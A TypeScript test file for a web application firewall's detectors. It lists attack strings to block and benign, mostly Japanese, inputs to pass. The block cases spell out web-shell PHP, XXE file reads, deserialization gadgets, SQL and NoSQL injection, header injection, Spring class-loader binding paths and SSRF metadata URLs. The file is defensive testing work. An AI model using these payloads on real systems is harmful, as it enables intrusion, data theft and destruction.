import { describe } from "vitest"
import { testDetector } from "../testing/detector.case.ts"
import { ADDRESS_DETECTOR } from "./address.ts"
import { BINDING_WALK_DETECTOR } from "./binding-walk.ts"
import { HEADER_DETECTOR } from "./header.ts"
import { NOSQL_DETECTOR } from "./nosql.ts"
import { OBJECT_WALK_DETECTOR } from "./object-walk.ts"
import { PHP_DETECTOR } from "./php.ts"
import { SERIALIZED_DETECTOR } from "./serialized.ts"
import { SQL_FRAGMENT_DETECTOR } from "./sql-fragment.ts"
import { SERVER_CALL_DETECTOR } from "./server-call.ts"
import { UPLOAD_DETECTOR } from "./upload.ts"
import { XML_DETECTOR } from "./xml.ts"

describe("php", () => {
    testDetector(
        PHP_DETECTOR,
        [
            { text: "<code><?php echo 1; ?></code>", want: "block", why: "a page as it was sent" },
            { text: '<%@ Register Tagprefix="a" Assembly="b" %>', want: "block", why: "a page of ASP.NET" },
            { text: "__construct()", path: "json.a#key", want: "block", why: "what an object is made with" },
            { text: "the __construct() of a class", want: "pass", why: "a word about it" },
            { text: "'.phpinfo().'", want: "block", why: "joined to a string" },
            { text: "${@print(md5(1))}", want: "block", why: "a variable by a call's outcome" },
            { text: "<?php system($_GET[cmd]);", want: "block", why: "a program in a page", technique: "server-page" },
            { text: "GIF89a\n<?= `id` ?>", want: "block", why: "behind the head of a picture" },
            { text: "<%@ page import='java.io.*'%>", want: "block", why: "a page of Java" },
            { text: "base64_decode('eA==')", want: "block", why: "a function of PHP", technique: "php-call" },
            { text: "system('id')", want: "block", why: "a word, and a string in the brackets" },
            {
                text: "('sys'.'x')('system')('id')",
                want: "block",
                why: "a string that is called",
                technique: "php-variable-call",
            },
            { text: "$_a[5]['d'] /*x*/ (17)", want: "block", why: "a variable that is called" },
            { text: "${'a'}(11)", want: "block", why: "a variable named by a string" },
            { text: "(sy.(st).em)('uname');", want: "block", why: "an expression that is called" },
            { text: "php $_GET $_POST 違い", want: "pass", why: "words of a search" },
            { text: "$_REQUEST['c']", want: "block", why: "what web shells read", technique: "php-request-array" },
            { text: "auto_prepend_file=php://input", want: "block", why: "a setting", technique: "php-setting" },
            { text: "$__[$_[1]](7)", want: "block", why: "a subscript within a subscript" },
            { text: "x=$_b #c\n[5]//d\n['e'] (1)", want: "block", why: "with comments to the end of the line" },
            { text: "define('x', 'sys'.'tem');(x)/*c*/('id')", want: "block", why: "a constant that is called" },
            { text: "(/*c*/system)(ls/*c*/);", want: "block", why: "a name in brackets, with comments" },
            { text: "( [ system ][ 0 ]) {/*c*/0} ( ls )", want: "block", why: "an item of a list that is called" },
            { text: "${'ab'}", want: "block", why: "a variable named by a string, not called" },
            { text: "exec/*c*/()", want: "block", why: "a comment before the bracket", technique: "php-call" },
            { text: "exec #c\n(x)", want: "block", why: "a comment to the end of the line before it" },
            { text: "XXgzinflate()", want: "block", why: "what a filter left that cuts words out" },
            { text: "Shell_exec=(x)", want: "block", why: "a sign that a filter takes away" },
            { text: "chr(101)", want: "block", why: "the call is all there is" },
            { text: "printf(abc)", want: "block", why: "the same with a word in it" },
            { text: "/get/unpack()", path: "path", want: "block", why: "a call in the address of a page" },
            { text: "<?=1;echo 1;", want: "block", why: "a number behind the short tag" },
            { text: "<?xml  \t ();echo 1;", want: "block", why: "a declaration of XML that is a program" },
            { text: "{php}print 1;{/php}", want: "block", why: "a block of a template", technique: "php-block" },
            { text: '[php]echo "x"', want: "block", why: "a tag of a forum's plug-in" },
            { text: "Excel の =CHAR(10) と VBA の chr(13) の違い", want: "pass", why: "functions in a sentence" },
            { text: 'printf("%d\\n", n); の書式', want: "pass", why: "C, in a sentence" },
            { text: "{php} タグは使えますか [php] も", want: "pass", why: "names of tags" },
            { text: "好き<?=3 だよね", want: "pass", why: "a heart gone wrong" },
            { text: "${total}", want: "pass", why: "a placeholder" },
            { text: "見積 #12\n(税込)", want: "pass", why: "a number, and a bracket on the next line" },
            { text: "https://www.example.jp/ (公式)\n(予約)", want: "pass", why: "an address is no comment" },
            { text: "関数 base64_decode('x') の使い方", want: "observe", why: "a sentence about a function" },
            { text: "<?xml version='1.0'?>", want: "pass", why: "a declaration of XML" },
            { text: "システム (system) の説明 (file) です", want: "pass", why: "words and brackets" },
            { text: "$100 (税込) と $CAD (カナダドル)", want: "pass", why: "prices" },
            { text: "${name} 様 (${age} 歳)", want: "pass", why: "placeholders of a mail" },
            { text: "at $g (https://www.example.jp/react.js:110:8)", want: "pass", why: "a line of a stack trace" },
            { text: "$_$m(_ _)m", want: "pass", why: "two emoticons" },
            { text: "copy (1).pdf", want: "pass", why: "a file's name" },
        ],
        [
            "<?php",
            "<?=",
            "system",
            "(",
            ")",
            "'",
            "$_GET",
            "$a",
            "[0]",
            "{",
            "}",
            "eval",
            ";",
            "=",
            "<%",
            "base64_decode",
            "/*",
            "*/",
            "#",
            "\n",
            "{php}",
        ],
    )
})

describe("upload", () => {
    const path = "multipart.photo.filename"
    testDetector(
        UPLOAD_DETECTOR,
        [
            { path, text: "cmd.php", want: "block", why: "a program", technique: "program-file" },
            { path, text: "a.phpt", want: "block", why: "a test file of PHP is a program too" },
            { path, text: "cmd.php;.jpg", want: "block", why: "cut at the semicolon by some servers" },
            { path, text: "cmd.php..jpg", want: "block", why: "two extensions" },
            { path, text: "photo. php", want: "block", why: "padded" },
            { path, text: "shell.jsp  ", want: "block", why: "padded behind" },
            { path: "header.x-filename", text: "a.pHp5", want: "block", why: "in a header" },
            {
                path,
                text: ".htaccess",
                want: "block",
                why: "settings of the folder",
                technique: "server-settings-file",
            },
            { path, text: "sess_0123456789abcdef", want: "block", why: "the store of a session of PHP" },
            { path, text: "phpの説明.pdf", want: "pass", why: "a document about it" },
            { path, text: "aspen.jpg", want: "pass", why: "begins alike" },
            { path, text: "写真.2026.jpeg", want: "pass", why: "dots" },
            { path: "query.page", text: "index.php", want: "pass", why: "no file is uploaded" },
        ],
        ["a", ".php", ".jpg", ";", ".", " ", ".htaccess", "/"],
    )
})

describe("xml", () => {
    testDetector(
        XML_DETECTOR,
        [
            { text: "<esi:include src='http://a.example/'/>", want: "block", why: "an edge's include" },
            { text: '<a z:Id="1" z:Type="A" z:Assembly="B"/>', want: "block", why: "a class with its assembly" },
            { text: '<a z:Id="1" i:type="b:A"/>', want: "pass", why: "what services of .NET exchange" },
            { text: '<ObjectDataProvider MethodName="Start"/>', want: "block", why: "an object of .NET" },
            {
                text: "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///x'>]><a>&x;</a>",
                want: "block",
                why: "reads a file",
                technique: "entity-declaration",
            },
            { text: '<!ENTITY % x SYSTEM "http://example.test/">', want: "block", why: "a parameter entity" },
            { text: "<!ENTITY a '&b;&b;'>", want: "block", why: "grows" },
            {
                text: "<!DOCTYPE a SYSTEM 'http://example.test/a.dtd'>",
                want: "block",
                why: "fetches",
                technique: "external-document-type",
            },
            { text: "<xi:include href='file:///x'/>", want: "block", why: "includes", technique: "xml-include" },
            { text: "<!DOCTYPE html>", want: "pass", why: "a page" },
            {
                text: '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
                want: "pass",
                why: "an old page",
            },
            { text: "<order><name>山田&amp;子</name></order>", want: "pass", why: "an order" },
        ],
        ["<!ENTITY ", "<!DOCTYPE ", "a ", "SYSTEM ", "'", ">", "[", "<xi:include ", "href="],
    )
})

describe("serialized", () => {
    testDetector(
        SERIALIZED_DETECTOR,
        [
            {
                text: "H4sIAAAAAAAAA/O3srBScq0oyC8qSS1SsjKyqi62MrFSSsvMSVWyLrYytVKq0CvIKACxTayUUhJLEkFMQwsrJRt72wSVeHfXkGiD2ARrezsFBSXrWgDno1wnTwAAAA==",
                want: "block",
                why: "PHP, packed, in base64",
                technique: "php-object",
            },
            { text: "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", want: "block", why: "letters and digits alone" },
            {
                text: "BAhvOhVHZW06OlJlcXVpcmVtZW50BjoSQHJlcXVpcmVtZW50c1sA",
                want: "block",
                why: "Ruby in base64",
                technique: "ruby-object",
            },
            { text: "BAh7BkkiB2lkBjoGRVRpBg==", want: "pass", why: "a session of Rails: a table of texts" },
            {
                text: "gASVGAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
                want: "block",
                why: "pickle 4 in base64",
            },
            { text: "gAJ9cQBYAgAAAGlkcQFLAXMu", want: "pass", why: "pickle 2 of a table" },
            { text: "System.Diagnostics.Process, System", want: "block", why: "a class with its assembly" },
            {
                text: "System.Collections.Generic.List`1[[Rei.Order, Rei]], mscorlib",
                want: "pass",
                why: "a list of the application's own",
            },
            { text: "py/reduce", path: "json[0]#key", want: "block", why: "what jsonpickle runs" },
            { text: "^o", path: "json[0]#key", want: "block", why: "an object of Oj's" },
            {
                text: "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://a.example/a'",
                want: "block",
                why: "a connection that runs a script",
            },
            { text: "jdbc:postgresql://db.example.jp:5432/app?ssl=true", want: "pass", why: "a connection" },
            { text: "eJwsomeNonceOfLetters0123456789", want: "pass", why: "begins like packed bytes" },
            { text: "rO0ABXNyABFqYXZhLnV0aWw=", want: "block", why: "Java in base64", technique: "java-object" },
            { text: "aced00057372", want: "block", why: "Java in hexadecimal" },
            { text: 'O:8:"stdClass":1:{s:1:"a";i:2;}', want: "block", why: "PHP", technique: "php-object" },
            { text: "AAEAAAD/////AQAAAAAAAAAMAgAAAA", want: "block", why: ".NET", technique: "dotnet-object" },
            { text: "cos\nsystem\n(S'id'\ntR.", want: "block", why: "Python's pickle", technique: "python-object" },
            { text: "!!python/object/apply:os.system ['id']", want: "block", why: "YAML", technique: "yaml-object" },
            { text: 'a:1:{s:4:"name";s:3:"abc";}', want: "pass", why: "a list of PHP: no object" },
            { text: "すごい!!! Java 講座", want: "pass", why: "exclamation marks" },
            { text: "比率 O:8 C:3", want: "pass", why: "letters with colons" },
        ],
        ["O:", "8", ":", '"a"', "{", "rO0AB", "X", "!!", "python/object", "cos\n"],
    )
})

describe("nosql", () => {
    testDetector(
        NOSQL_DETECTOR,
        [
            { text: "' RETURN 1 UNION MATCH (n) RETURN n //", want: "block", why: "another pattern of Cypher" },
            { text: "'}) DETACH DELETE n //", want: "block", why: "Cypher", technique: "database-script" },
            { text: "We call db.example and load CSV from 'a'", want: "pass", why: "words" },
            { text: "query Q($where: Filter, $a: Int) { a }", want: "pass", why: "a variable of GraphQL and its type" },
            { text: "query Q($where: [Filter!]! = {})", want: "pass", why: "a list with a default" },
            { text: "$where: this.a", want: "block", why: "a condition" },
            { text: "{$where: Function('x')}", want: "block", why: "a program" },
            { text: "'] | //user/* | a['", want: "block", why: "another set of nodes", technique: "xpath-query" },
            {
                text: "user[$ne]",
                path: "query[0]#key",
                want: "block",
                why: "an operator as name",
                technique: "operator-as-name",
            },
            { text: "$where", path: "json.$where#key", want: "block", why: "in JSON" },
            {
                text: "' || this.password.match(/x/)//",
                want: "block",
                why: "a condition of MongoDB",
                technique: "database-script",
            },
            { text: "x)(userPassword:2.5.13.18:=\\61", want: "block", why: "a rule of comparison" },
            { text: "admin*)((|cn=*)", want: "block", why: "an or behind two brackets" },
            { text: "検索式 (&(objectClass=person)(uid=a)) の例", want: "pass", why: "a filter shown whole" },
            { text: "*)(uid=*))(|(uid=*", want: "block", why: "a directory's filter", technique: "directory-filter" },
            { text: "' or count(/*)=1 or '", want: "block", why: "XPath", technique: "xpath-query" },
            {
                text: "mail[#post_render][]",
                path: "form[0]#key",
                want: "block",
                why: "Drupal's render arrays",
                technique: "render-property",
            },
            { text: "price[$gte]", path: "query[0]#key", want: "observe", why: "query interfaces publish it" },
            { text: "$ref", path: "json.$ref#key", want: "pass", why: "JSON Schema" },
            { text: "$ne", want: "pass", why: "a value, not a name" },
            { text: "(税込)(送料別)", want: "pass", why: "two brackets" },
            { text: "(*^_^*)(≧▽≦)", want: "pass", why: "emoticons" },
            { text: "氏名(漢字)(必須)=山田", want: "pass", why: "a label" },
        ],
        ["$ne", "[", "]", ")(", "(|", "uid=", "*", "'", " or ", "count(/", "db.a.find("],
    )
})

describe("object-walk", () => {
    testDetector(
        OBJECT_WALK_DETECTOR,
        [
            { text: "/__proto__/x", want: "block", why: "a patch", technique: "prototype-member" },
            { text: "/docs/prototype/x", want: "pass", why: "a page" },
            { text: "__pro__proto__to__[x]", path: "query[0]#key", want: "block", why: "what a filter leaves" },
            {
                text: "this.constructor.constructor",
                want: "block",
                why: "makes functions",
                technique: "function-maker",
            },
            { text: "x['constructor']['constructor']", want: "block", why: "the same in brackets" },
            {
                text: "__proto__.admin=1",
                want: "block",
                why: "sets what all objects have",
                technique: "prototype-assignment",
            },
            { text: "a[__proto__][x]=1", want: "block", why: "the same in brackets" },
            {
                text: "$1:__proto__:then",
                want: "block",
                why: "a reference to what no form has",
                technique: "server-action-walk",
            },
            { text: "{'get':'$3:constructor:constructor'}", want: "block", why: "in JSON that is not strict" },
            { text: "$2:_response:_chunks", want: "block", why: "the decoder's own members" },
            { text: "$1:user:name", want: "pass", why: "a reference to data" },
            { text: "$F1", want: "pass", why: "a server function of an honest page" },
            { text: "価格 $20:prototype版", want: "pass", why: "a price and a word" },
            { text: "JavaScript の constructor と prototype の違い", want: "pass", why: "words of a question" },
            { text: "obj.__proto__ とは何ですか", want: "pass", why: "a member in a question" },
            { text: "class A { constructor() {} } の constructor を呼ぶ", want: "pass", why: "a class" },
        ],
        ["$1:", "constructor", ".", "__proto__", "[", "]", "'", ":then", "=", "a"],
    )
})

describe("binding-walk", () => {
    const path = "form[0]#key"
    testDetector(
        BINDING_WALK_DETECTOR,
        [
            {
                text: "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
                path,
                want: "block",
                why: "the way of March 2022",
                technique: "class-loader-walk",
            },
            { text: "class.classLoader.URLs[0]", path, want: "block", why: "the way of 2010" },
            { text: "class['classLoader'].resources", path, want: "block", why: "in brackets with quotes" },
            { text: 'user["class"]["module"]["classLoader"]', path, want: "block", why: "below a property" },
            { text: "items[0][class][module][classLoader][x]", path, want: "block", why: "in brackets without" },
            { text: "Class.Module.ClassLoader.defaultAssertionStatus", path, want: "block", why: "with capitals" },
            { text: "class.protectionDomain.codeSource", path, want: "block", why: "the other end" },
            { text: "class.superclass.interfaces[0].classLoader", path, want: "block", why: "by a detour" },
            { text: "class.module.classLoader.x", path: "query[3]#key", want: "block", why: "in the query" },
            { text: "class.classLoader.x", path: "multipart[0].name", want: "block", why: "in a form with files" },
            { text: "class.module.classLoader.x", path: "query.q", want: "pass", why: "a value that names it" },
            { text: "class", path, want: "pass", why: "a class of a school" },
            { text: "class.name", path, want: "pass", why: "a name, which Spring allows too" },
            { text: "class.module", path, want: "pass", why: "a course and its unit" },
            { text: "class[3][teacher]", path, want: "pass", why: "a list of classes" },
            { text: "classroom.loader", path, want: "pass", why: "a room" },
            { text: "subclass.classLoader", path, want: "pass", why: "another word that ends in it" },
            { text: "class.classLoaderName", path, want: "pass", why: "another word that begins with it" },
            { text: "css.class_loader.class", path, want: "pass", why: "the style of a spinner" },
        ],
        ["class", "Class", ".", "[", "]", "'", "module", "classLoader", "protectionDomain", "[0]", "a", " "],
    )
})

describe("server-call", () => {
    testDetector(
        SERVER_CALL_DETECTOR,
        [
            { text: '" . qx{id} . "', want: "block", why: "joined to a string of Perl" },
            { text: "new System.Net.WebClient().DownloadString('a')", want: "block", why: "asks an address in .NET" },
            { text: "Object.const_get(:Kernel).system('id')", want: "block", why: "by a constant's name" },
            { text: "\\openin\\f=/etc/passwd", want: "block", why: "TeX opens a file" },
            { text: "__import__('os').system('id')", want: "block", why: "Python", technique: "python-call" },
            { text: "use subprocess.run([...], check=True)", want: "pass", why: "an ellipsis is no argument" },
            { text: "Deno.readTextFileSync('a')", want: "block", why: "reads a file in Deno" },
            { text: "import('node:fs').then(f)", want: "block", why: "a module of Node.js" },
            { text: "import('./page.js')", want: "pass", why: "a part of a page" },
            {
                text: '@System.IO.File.ReadAllText("a")',
                want: "block",
                why: "reads a file in .NET",
                technique: "dotnet-call",
            },
            { text: 'os.execute("id")', want: "block", why: "Lua", technique: "language-call" },
            { text: '"id".execute().text', want: "block", why: "Groovy" },
            { text: "db.select().execute()", want: "pass", why: "a query" },
            { text: "#{%x(id)}", want: "block", why: "a command in a text of Ruby" },
            { text: "\\immediate\\write18{id}", want: "block", why: "LaTeX", technique: "document-call" },
            { text: "\\input{chapter/one.tex}", want: "pass", why: "a chapter" },
            { text: "=cmd|'/c calc'!A1", want: "block", why: "a cell that starts a program" },
            { text: "=SUM(A1:A3)|'合計'", want: "pass", why: "a sum and a word" },
            { text: 'Process.spawn("id")', want: "block", why: "runs a program", technique: "ruby-call" },
            { text: "IO.popen 'id'", want: "block", why: "without brackets" },
            { text: "Open3.capture2e(%w[id])", want: "block", why: "with its output" },
            { text: "qx{id};", want: "block", why: "a command in Perl", technique: "perl-command" },
            { text: "open(F, '|id')", want: "block", why: "a pipe" },
            { text: "fs.readFileSync('a')", want: "block", why: "reads a file", technique: "node-call" },
            { text: "require('fs').readdir(x)", want: "block", why: "the same by its module" },
            { text: 'Process.spawn("id") の使い方', want: "observe", why: "a sentence that names it" },
            { text: "Process.spawn と Kernel.system の違い", want: "pass", why: "names" },
            { text: "PDF が open (開く) できません", want: "pass", why: "a word and a bracket" },
            { text: "IO.read の例; QX-100 {黒}", want: "pass", why: "a name and a product" },
            { text: "fs.readFile とは (Node.js)", want: "pass", why: "a function in a question" },
        ],
        ["Process.", "spawn", "(", ")", '"', "IO.", "popen", "qx{", "}", ";", "fs.", "readFile", "open("],
    )
})

describe("sql-fragment", () => {
    testDetector(
        SQL_FRAGMENT_DETECTOR,
        [
            { text: "1;VACUUM INTO '/a.php'", want: "block", why: "writes a file" },
            { text: "1;VALUES(1)", want: "block", why: "rows of their own" },
            { text: "' or ''-'", want: "block", why: "empty strings made into a number" },
            { text: "'or'", want: "pass", why: "a word in quotes" },
            { text: "*/union/*", want: "block", why: "a piece between two values" },
            { text: "1 union/*", want: "block", why: "the first of two" },
            { text: "union /* note */", want: "pass", why: "a comment that is closed" },
            { text: "*,(select a from b) as c", want: "block", why: "another query among columns" },
            { text: "* (select one)", want: "pass", why: "a remark" },
            { text: "1; COPY users TO '/tmp/a'", want: "block", why: "writes a file" },
            { text: "2; copy files to the folder", want: "pass", why: "words" },
            {
                text: "1;HANDLER users OPEN",
                want: "block",
                why: "reads without a query",
                technique: "bare-sql-command",
            },
            { text: "1;SET ROLE postgres;--", want: "block", why: "another's rights" },
            { text: "1; set role models for pupils", want: "pass", why: "words" },
            { text: "sin(", want: "block", why: "a call that is never closed", technique: "unclosed-function" },
            {
                text: "(extractvalue(1,(select concat_ws(0x3a,user(",
                want: "block",
                why: "calls within calls, all open",
            },
            { text: ") like (", want: "block", why: "between two brackets", technique: "half-expression" },
            { text: "')) OR (", want: "block", why: "the same behind a quote" },
            { text: "if(2=", want: "block", why: "half a condition" },
            { text: "'x'!='y", want: "block", why: "two constants, the second left open" },
            { text: "` AS `A_B` from", want: "block", why: "goes on with the list of columns" },
            { text: "polygon((/*!00000select*/1", want: "block", why: "MySQL runs it", technique: "product-syntax" },
            { text: "jsonb_pretty(...(1,password)::jsonb)::int", want: "block", why: "casts of PostgreSQL" },
            { text: "div (23.5 , -2)", want: "block", why: "division as PostgreSQL calls it" },
            { text: `'{"a":[1]}'::jsonb @? '$.a[*]'`, want: "block", why: "an operator on JSON" },
            { text: `'{"a":[1]}' > '$.a' = 7`, want: "block", why: "a comparison of SQLite's" },
            {
                text: "Safari/537.36-1 waitfor delay '0:0:5' --",
                want: "block",
                why: "waits",
                technique: "server-delay",
            },
            { text: 'a@example.jp" sleep(10.to_i) "', want: "block", why: "the same in a language of the application" },
            { text: ";truncate[xx", want: "block", why: "a command behind a separator", technique: "bare-sql-command" },
            { text: "drop table a", want: "block", why: "a command by itself" },
            { text: "(大人) like (子ども)", want: "pass", why: "brackets in a sentence" },
            { text: "=IF(A1=1,2,3)", want: "pass", why: "a formula" },
            { text: '"名前"="値"', want: "pass", why: "a line of settings" },
            { text: "it's 5'10\" tall", want: "pass", why: "feet and inches" },
            { text: "/*! jQuery v3.7.1 | (c) */", want: "pass", why: "the head of a library" },
            { text: "std::vector<int> f()::g", want: "pass", why: "C++" },
            { text: "count(*)::int を返す関数の説明", want: "pass", why: "a cast in a sentence" },
            { text: "time.sleep(5) と 'sleep(10)' の違い", want: "pass", why: "calls in a sentence" },
            {
                text: `curl -d '{"a":1}' 'https://www.example.jp/' > out.json`,
                want: "pass",
                why: "a help desk's command",
            },
            { text: "WAITFOR とは何ですか; delay との違い", want: "pass", why: "words" },
            { text: "mod(10,3) の余り", want: "pass", why: "arithmetic" },
            { text: "'仮' AS '本' from 先生", want: "pass", why: "a letter" },
        ],
        [
            "sin",
            "(",
            ")",
            "like",
            "'",
            "`",
            " as ",
            "from",
            "::int",
            "/*!00000a",
            "sleep(1)",
            "waitfor delay '",
            ";",
            "drop table a",
            "[",
            "{}",
        ],
    )
})

describe("header", () => {
    testDetector(
        HEADER_DETECTOR,
        [
            { text: "ja\r\n\r\n<html>", want: "block", why: "a page behind the head", technique: "second-message" },
            { text: "x\r\nCONFIG SET dir /var", want: "block", why: "a command of a store" },
            { text: "x\r\nSet-Cookie: a=1", want: "block", why: "a line of a response", technique: "header-line" },
            { text: "x\r\n\r\nHTTP/1.1 200 OK", want: "block", why: "another response", technique: "second-message" },
            {
                text: "a@example.jp\nBcc: b@example.jp",
                path: "form.email",
                want: "block",
                why: "another recipient",
                technique: "mail-recipient",
            },
            {
                text: "/admin/\rtest",
                path: "path",
                want: "block",
                why: "no page has one in its address",
                technique: "line-end-in-path",
            },
            { text: "お世話になっております。\r\nTo: 担当者様", path: "form.comment", want: "pass", why: "a letter" },
            { text: "エラー:\r\nContent-Type: text/html", path: "form.comment", want: "pass", why: "a pasted log" },
            { text: "一行目\r\n二行目", want: "pass", why: "two lines" },
        ],
        ["\r\n", "Set-Cookie", ":", "HTTP/1.1 200", "Bcc: ", "a"],
    )
})

describe("address", () => {
    testDetector(
        ADDRESS_DETECTOR,
        [
            { text: "http://[0:0:0:0:0:ffff:127.0.0.1]/", want: "block", why: "IPv4 in IPv6, spelled out" },
            { text: "http://metadata/computeMetadata/v1/", want: "block", why: "a cloud's data by its short name" },
            { text: "http://metadata/docs", want: "pass", why: "a host of that name" },
            { text: "http://localhost:8080/ が開けない", want: "pass", why: "a question" },
            { text: "http://169.254.169.254/latest/?x= あ", want: "block", why: "Japanese in what nobody reads" },
            { text: "http://0251.0376.0251.0376/", want: "block", why: "a cloud's metadata in octal" },
            { text: "http://①②⑦.⓪.⓪.①/", want: "block", why: "digits in circles" },
            { text: "http://127。0。0。1/", want: "block", why: "full stops of Japanese" },
            { text: "http://例え.example.jp/", want: "pass", why: "a name of Japanese" },
            { text: "http://[64:ff9b::a9fe:a9fe]/", want: "block", why: "translated from IPv6" },
            { text: "http://169.254.169.254.nip.io/", want: "block", why: "a name that says a number" },
            { text: "//169.254.169.254/latest", want: "block", why: "without a scheme" },
            {
                text: "unix:/var/run/docker.sock:http:/images",
                want: "block",
                why: "a socket",
                technique: "foreign-scheme",
            },
            {
                text: "http://169.254.169.254/latest/",
                want: "block",
                why: "a cloud's metadata",
                technique: "own-network",
            },
            { text: "http://0x7f.1/", want: "block", why: "loopback in another base" },
            { text: "http://2130706433/", want: "block", why: "loopback as one number" },
            { text: "https://user@localhost:8080/", want: "block", why: "with a name in front" },
            { text: "http://[::ffff:127.0.0.1]/", want: "block", why: "loopback in IPv6" },
            { text: "http:127.0.0.1", want: "block", why: "clients take it for an address" },
            { text: "gopher://127.0.0.1:6379/_x", want: "block", why: "another protocol", technique: "foreign-scheme" },
            {
                text: "http://203.0.113.9/x.txt?",
                want: "block",
                why: "a script from a number",
                technique: "script-from-number",
            },
            { text: "ftp://203.0.113.9", want: "block", why: "files of a server that is a number" },
            { text: "http://192.168.1.5/", want: "observe", why: "an office's own page" },
            { text: "http://localhost:3000/cb", path: "query.redirect_uri", want: "pass", why: "RFC 8252" },
            { text: "http://localhost/", path: "header.origin", want: "pass", why: "a developer's page" },
            { text: "https://www.example.jp/localhost", want: "pass", why: "a path with that name" },
            { text: "localhost とは", want: "pass", why: "a word" },
            { text: "https:443", want: "pass", why: "a port" },
            { text: "予約:10:30", want: "pass", why: "a colon" },
        ],
        ["http://", "localhost", "127.0.0.1", "/", ":", "[::1]", "gopher://", "@", "?"],
    )
})
